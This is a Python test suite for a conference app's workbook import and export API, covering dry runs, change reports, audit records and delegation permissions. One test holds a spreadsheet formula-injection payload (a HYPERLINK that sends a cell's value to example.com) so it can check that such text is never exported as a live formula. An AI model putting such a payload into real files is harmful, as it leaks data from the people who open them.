"""Workbooks, in: what an import says it would do, and that it does just that."""

import io
import zipfile

import pytest
from fastapi.testclient import TestClient
from sqlalchemy import select
from sqlalchemy.orm import Session

from app.models import (
    AuditEntry,
    Conference,
    ConferenceSession,
    Delegation,
    InterestState,
    Need,
    Offering,
    Role,
    Wish,
)
from tests import importing
from tests.api.answers import API, NOBODY, assert_invalid, assert_problem
from tests.api.people import People
from tests.api.workbook_desk import (
    HANOI,
    JAPAN,
    KOREA,
    UNTOUCHED,
    carried,
    counts,
    exported,
    load_reference,
    rehearsed,
    send,
    submitted,
)
from tests.factories import a_need, a_workbook_import, an_account, an_organisation
from tests.workbooks import Draft

RETURNED = InterestState.RETURNED
VIETNAMESE = {"Accept-Language": "vi"}
NOT_AS_IT_WAS = "The file, or a row that it changes, is not what it was: do the dry run again."


@pytest.fixture
def delegations(db: Session, session: ConferenceSession) -> dict[str, Delegation]:
    return submitted(db, session)


@pytest.mark.usefixtures("delegations")
def test_import_of_what_was_exported_changes_nothing(client: TestClient, db: Session, conference: Conference) -> None:
    before = db.scalars(select(AuditEntry.id)).all()

    report = carried(client, conference, exported(client, conference))

    assert (report["sheets"], report["changes"], report["ignored_sheets"]) == (UNTOUCHED, [], [])
    actions = db.scalars(select(AuditEntry.action).where(AuditEntry.id.not_in(before)).order_by(AuditEntry.at)).all()
    assert actions == ["workbook.sent", "workbook.confirmed", "workbook.imported"]
    assert {need.revision for need in db.scalars(select(Need))} == {1}


@pytest.mark.usefixtures("delegations")
def test_import_changes_what_was_edited_and_that_alone(client: TestClient, db: Session, conference: Conference) -> None:
    draft = Draft.of(exported(client, conference))
    draft.set("Needs", 2, Vietnamese_title="Xuất khẩu gạo ST25", Priority=3)
    draft.add("Needs", {"Delegation": "Nhật Bản", "Reference": "N1", "Vietnamese title": "Tìm thợ lành nghề"})
    draft.set("Offerings", 2, Delete="x")

    report = carried(client, conference, draft.saved())

    assert report["sheets"] == [
        *UNTOUCHED[:3],
        counts("needs", "Needs", created=1, changed=1),
        counts("offerings", "Offerings", deleted=1),
        UNTOUCHED[5],
    ]
    assert report["changes"] == [
        {
            "sheet": "Needs",
            "row": 2,
            "name": f"{HANOI}, N1",
            "action": "changed",
            "cells": [
                {"cell": "E2", "heading": "Priority", "before": "1", "after": "3"},
                {
                    "cell": "F2",
                    "heading": "Vietnamese title",
                    "before": "Xuất khẩu gạo thơm",
                    "after": "Xuất khẩu gạo ST25",
                },
            ],
        },
        {"sheet": "Needs", "row": 3, "name": f"{JAPAN}, N1", "action": "created", "cells": []},
        {"sheet": "Offerings", "row": 2, "name": f"{KOREA}, O1", "action": "deleted", "cells": []},
    ]
    needs = db.scalars(select(Need).order_by(Need.title_vi)).all()
    assert [(need.title_vi, need.priority) for need in needs] == [
        ("Tìm thợ lành nghề", 1),
        ("Xuất khẩu gạo ST25", 3),
    ]
    assert db.scalars(select(Offering)).all() == []


@pytest.mark.usefixtures("delegations")
def test_import_is_recorded_row_by_row_and_as_a_whole(client: TestClient, db: Session, conference: Conference) -> None:
    draft = Draft.of(exported(client, conference)).set("Needs", 2, Priority=3)

    carried(client, conference, draft.saved())

    entries = {entry.action: entry for entry in db.scalars(select(AuditEntry))}
    changed, whole = entries["need.changed"], entries["workbook.imported"]
    assert (changed.before, changed.after) == ({"priority": 1}, {"priority": 3})
    assert whole.conference_id == conference.id
    assert whole.after is not None
    assert whole.after["needs"] == {"created": 0, "changed": 1, "deleted": 0}
    assert len(whole.after["file_sha256"]) == 64


@pytest.mark.usefixtures("delegations")
def test_dry_run_does_nothing_but_to_be_recorded(client: TestClient, db: Session, conference: Conference) -> None:
    draft = Draft.of(exported(client, conference)).set("Needs", 2, Priority=3)
    before = db.scalars(select(AuditEntry.id)).all()

    report = rehearsed(client, conference, draft.saved())

    assert report["sheets"][3] == counts("needs", "Needs", changed=1)
    assert [need.priority for need in db.scalars(select(Need))] == [1]
    actions = db.scalars(select(AuditEntry.action).where(AuditEntry.id.not_in(before))).all()
    assert actions == ["workbook.sent"]


@pytest.mark.usefixtures("delegations")
def test_dry_run_tells_each_problem_in_the_readers_language(client: TestClient, conference: Conference) -> None:
    draft = Draft.of(exported(client, conference, language="vi"))
    draft.type("Nhu cầu", 2, {"Thứ tự ưu tiên": "cao", "Lĩnh vực": "AGR; UFO"})

    report = rehearsed(client, conference, draft.saved(), **VIETNAMESE)

    assert report["problems"] == [
        {"sheet": "Nhu cầu", "cell": "E2", "detail": "Ô này phải là số nguyên, không phải “cao”."},
        {"sheet": "Nhu cầu", "cell": "K2", "detail": "“UFO” không có trong danh sách “Lĩnh vực”."},
    ]


@pytest.mark.usefixtures("delegations")
def test_import_with_a_problem_does_nothing(client: TestClient, db: Session, conference: Conference) -> None:
    draft = Draft.of(exported(client, conference)).set("Needs", 2, Priority=3).set("Offerings", 2, Priority=0)

    found = importing.ended(client, send(client, conference, draft.saved()))
    refused = client.post(f"{API}/workbook-imports/{found['id']}/confirmations")

    problem = {"sheet": "Offerings", "cell": "E2", "detail": "Input should be greater than or equal to 1"}
    assert (found["status"], found["can_be_confirmed"], found["report"]["problems"]) == ("succeeded", False, [problem])
    detail = "A dry run is confirmed once, when it has ended without problems."
    assert_problem(refused, 409, "nothing-to-confirm", detail)
    assert [need.priority for need in db.scalars(select(Need))] == [1]


@pytest.mark.usefixtures("delegations")
def test_import_refuses_what_has_changed_since_the_dry_run(
    client: TestClient, db: Session, conference: Conference
) -> None:
    data = Draft.of(exported(client, conference)).set("Needs", 2, Delete="x").saved()
    found = importing.ended(client, send(client, conference, data))
    need = db.scalars(select(Need)).one()
    body = {"code": "N1", "title_vi": "Đổi ý"}
    assert client.put(f"{API}/needs/{need.id}", json=body).status_code == 200

    failed = importing.confirmed(client, found)

    detail = "This was changed after the file was exported: export it again and start from there."
    assert (failed["status"], failed["error_code"], failed["can_be_confirmed"]) == ("failed", "invalid", False)
    assert failed["error"] == "Nothing was imported; see what is wrong with each cell."
    assert failed["report"]["problems"] == [{"sheet": "Needs", "cell": "D2", "detail": detail}]
    assert db.scalars(select(Need.title_vi)).one() == "Đổi ý"


@pytest.mark.usefixtures("delegations")
def test_import_of_what_another_has_brought_meanwhile_is_refused(
    client: TestClient, people: People, db: Session, conference: Conference
) -> None:
    draft = Draft.of(exported(client, conference))
    draft.add("Needs", {"Delegation": JAPAN, "Reference": "N1", "Vietnamese title": "Tìm thợ lành nghề"})
    data, other = draft.saved(), people.of(conference, Role.EDITOR)
    found = importing.ended(client, send(client, conference, data))
    carried(other, conference, data)

    failed = importing.confirmed(client, found)

    assert (failed["status"], failed["error_code"], failed["error"]) == ("failed", "import-changed", NOT_AS_IT_WAS)
    assert failed["report"] is None
    assert len(db.scalars(select(Need)).all()) == 2
    assert rehearsed(client, conference, draft.saved())["sheets"][3] == counts("needs", "Needs", unchanged=2)


def test_import_makes_a_conference_from_a_template(
    client: TestClient, db: Session, session: ConferenceSession, conference: Conference
) -> None:
    load_reference(db)
    for code, name in (("01", "Hà Nội"), ("EMB-KR", "Hàn Quốc")):
        an_organisation(db, code, label_vi=name, label_en=name)
    draft = Draft.of(exported(client, conference, template=True, language="vi"))
    for name, side in (("Hà Nội", "province"), ("EMB-KR", "mission")):
        draft.add("Danh sách đoàn", {"Cơ quan, tổ chức": name, "Bên": side})
    first_slot = next(text for text in draft.sheets["Khung giờ không gặp được"].values() if text.startswith("s01"))
    draft.add("Khung giờ không gặp được", {"Cơ quan, tổ chức": "ha noi", first_slot: "x"})
    draft.add("Nhu cầu", {"Đoàn": "01", "Ký hiệu": "N1", "Tiêu đề tiếng Việt": "Gạo", "Lĩnh vực": "Nông nghiệp\nLOG"})
    draft.add("Nguyện vọng", {"Đoàn nêu nguyện vọng": "Hàn Quốc", "Đoàn được nêu": "01", "Nguyện vọng": "Không gặp"})

    report = carried(client, conference, draft.saved())

    assert [each["created"] for each in report["sheets"]] == [2, 1, 0, 1, 0, 1]
    listed = client.get(f"{API}/conferences/{conference.id}/delegations").json()["items"]
    assert [(each["organisation"]["code"], len(each["unavailable_slot_ids"])) for each in listed] == [
        ("EMB-KR", 0),
        ("01", 1),
    ]
    needs = client.get(f"{API}/delegations/{listed[1]['id']}/needs").json()["items"]
    assert [(need["title_vi"], need["sector_codes"]) for need in needs] == [("Gạo", ["AGR", "LOG"])]
    wishes = client.get(f"{API}/sessions/{session.id}/wishes").json()["items"]
    assert [(wish["delegation_id"], wish["kind"], wish["rank"]) for wish in wishes] == [
        (listed[0]["id"], "do_not_meet", None)
    ]


@pytest.mark.usefixtures("delegations")
def test_wishes_change_places(client: TestClient, db: Session, conference: Conference) -> None:
    draft = Draft.of(exported(client, conference))
    draft.type("Wishes", 2, {"Rank of the wish": 2}).type("Wishes", 3, {"Rank of the wish": 1})

    carried(client, conference, draft.saved())

    ranks = {wish.target_id: wish.rank for wish in db.scalars(select(Wish))}
    assert sorted(rank or 0 for rank in ranks.values()) == [1, 2]
    changes = [
        (entry.before, entry.after) for entry in db.scalars(select(AuditEntry)) if entry.action == "wish.changed"
    ]
    assert sorted(changes, key=str) == [({"rank": 1}, {"rank": 2}), ({"rank": 2}, {"rank": 1})]


def test_needs_change_references(
    client: TestClient, db: Session, conference: Conference, delegations: dict[str, Delegation]
) -> None:
    before = {a_need(db, delegations["01"], code=code, state=RETURNED).id: code for code in ("X1", "X2")}
    draft, other = Draft.of(exported(client, conference)), {"X1": "X2", "X2": "X1"}
    for number in range(2, 6):
        if (code := draft.row("Needs", number).get("Reference")) in other:
            draft.type("Needs", number, {"Reference": other[code]})

    carried(client, conference, draft.saved())

    db.expire_all()
    assert {need_id: db.get_one(Need, need_id).code for need_id in before} == {
        need_id: other[code] for need_id, code in before.items()
    }


def test_reference_that_another_need_keeps_is_refused_at_its_cell(
    client: TestClient, db: Session, conference: Conference, delegations: dict[str, Delegation]
) -> None:
    a_need(db, delegations["01"], code="X1", state=RETURNED)
    draft = Draft.of(exported(client, conference))
    rows = {draft.row("Needs", number).get("Reference"): number for number in (2, 3)}
    kept = next(code for code in rows if code != "X1")

    report = rehearsed(client, conference, draft.type("Needs", rows["X1"], {"Reference": kept}).saved())

    problem = {"sheet": "Needs", "cell": f"D{rows['X1']}"}
    assert [each | {"detail": ""} for each in report["problems"]] == [problem | {"detail": ""}]


def test_delegation_imports_its_own_part(
    people: People, db: Session, conference: Conference, delegations: dict[str, Delegation]
) -> None:
    client = people.of(conference, Role.HEAD, delegations["01"])
    draft = Draft.of(exported(client, conference)).set("Needs", 2, Priority=2)
    # Whose it is goes without saying.
    draft.add("Needs", {"Reference": "N2", "Vietnamese title": "Tìm nhà đầu tư"})

    carried(client, conference, draft.saved())

    needs = db.scalars(select(Need).order_by(Need.code)).all()
    assert [(need.code, need.priority, need.delegation_id) for need in needs] == [
        ("N1", 2, delegations["01"].id),
        ("N2", 1, delegations["01"].id),
    ]


def test_delegation_can_touch_nothing_of_others(
    client: TestClient, people: People, db: Session, conference: Conference, delegations: dict[str, Delegation]
) -> None:
    """Not even in a workbook that an organiser has handed on with all that is there."""
    draft = Draft.of(exported(client, conference))
    draft.set("Offerings", 2, Vietnamese_title="Overwritten")
    draft.add("Offerings", {"Delegation": KOREA, "Reference": "O2", "Vietnamese title": "In somebody's name"})
    draft.type("List of delegations", 2, {"Teams": 9})

    report = rehearsed(people.of(conference, Role.HEAD, delegations["01"]), conference, draft.saved())

    assert report["problems"] == [
        {
            "sheet": "Offerings",
            "cell": "C2",
            "detail": f"“{KOREA}” is not in the list “Who submits”.",
        },
        {
            "sheet": "Offerings",
            "cell": "C3",
            "detail": f"“{KOREA}” is not in the list “Who submits”.",
        },
    ]
    assert report["ignored_sheets"] == ["List of delegations", "Unavailable slots"]
    assert [offering.title_vi for offering in db.scalars(select(Offering))] == ["Secret buyer"]


def test_delegation_learns_nothing_of_ids_that_are_not_its_own(
    people: People, db: Session, conference: Conference, delegations: dict[str, Delegation]
) -> None:
    client = people.of(conference, Role.HEAD, delegations["01"])
    draft = Draft.of(exported(client, conference))
    offering = db.scalars(select(Offering)).one()
    answers = []
    for number in (offering.id, NOBODY):
        row = draft.add("Offerings", {"Delegation": HANOI, "Reference": "O1", "Vietnamese title": "Mine"})
        draft.sheets["Offerings"][f"A{row}"] = str(number)
        answers.append(rehearsed(client, conference, draft.saved())["problems"])
        draft.sheets["Offerings"] = {k: v for k, v in draft.sheets["Offerings"].items() if not k.endswith(str(row))}

    detail = "This row is not there any more: empty its hidden id to add it anew."
    assert answers == [[{"sheet": "Offerings", "cell": "D2", "detail": detail}]] * 2


@pytest.mark.parametrize("role", [Role.DESK, Role.VIEWER])
def test_import_is_for_editors_and_delegations(
    client: TestClient, people: People, conference: Conference, role: Role
) -> None:
    response = send(people.of(conference, role), conference, exported(client, conference))

    assert_problem(response, 403, "forbidden")


def test_import_refuses_what_is_no_workbook(client: TestClient, conference: Conference) -> None:
    found = importing.ended(client, send(client, conference, "Đoàn;Mã\n01;N1\n".encode()))

    assert (found["status"], found["error_code"], found["report"]) == ("failed", "invalid", None)
    assert found["error"] == (
        "This is not a spreadsheet. CSV and other text files lose letters, zeros and dates on their way: "
        "open the file in Excel or LibreOffice and save it as .xlsx or .ods."
    )


def test_import_needs_a_file(client: TestClient, conference: Conference) -> None:
    response = client.post(f"{API}/conferences/{conference.id}/workbook-imports")

    assert_invalid(response, ("/file", "Field required"))
    assert_invalid(send(client, conference, b""), ("/file", "The file is empty."))


@pytest.mark.usefixtures("delegations")
def test_sheets_that_are_not_known_are_named(client: TestClient, conference: Conference) -> None:
    draft = Draft.of(exported(client, conference))
    draft.sheets["Notes of the office"] = {"A1": "Call Seoul"}

    report = carried(client, conference, draft.saved())

    assert report["ignored_sheets"] == ["Notes of the office"]


@pytest.mark.usefixtures("delegations")
def test_what_looks_like_a_formula_goes_in_and_out_as_text(
    client: TestClient, db: Session, conference: Conference
) -> None:
    text = '=HYPERLINK("http://example.com/?leak="&A1,"click")'
    draft = Draft.of(exported(client, conference)).set("Needs", 2, Vietnamese_title=text)

    carried(client, conference, draft.saved())

    assert [need.title_vi for need in db.scalars(select(Need))] == [text]
    again = exported(client, conference)
    assert Draft.of(again).row("Needs", 2)["Vietnamese title"] == text
    with zipfile.ZipFile(io.BytesIO(again)) as archive:
        assert not any(b"<f>" in archive.read(name) for name in archive.namelist() if "worksheets" in name)


@pytest.mark.usefixtures("delegations")
def test_import_is_thrown_away_by_whoever_has_sent_it(client: TestClient, db: Session, conference: Conference) -> None:
    account = an_account(db, is_administrator=True)
    foreign = a_workbook_import(db, account, conference)
    data = exported(client, conference)
    sent = client.post(f"{API}/conferences/{conference.id}/workbook-imports", files={"file": ("w.xlsx", data)})
    address = sent.headers["Location"]

    answers = [client.delete(path) for path in (f"{API}/workbook-imports/{foreign.id}", address, address)]

    assert [each.status_code for each in answers] == [404, 204, 404]
    assert client.get(address).status_code == 404
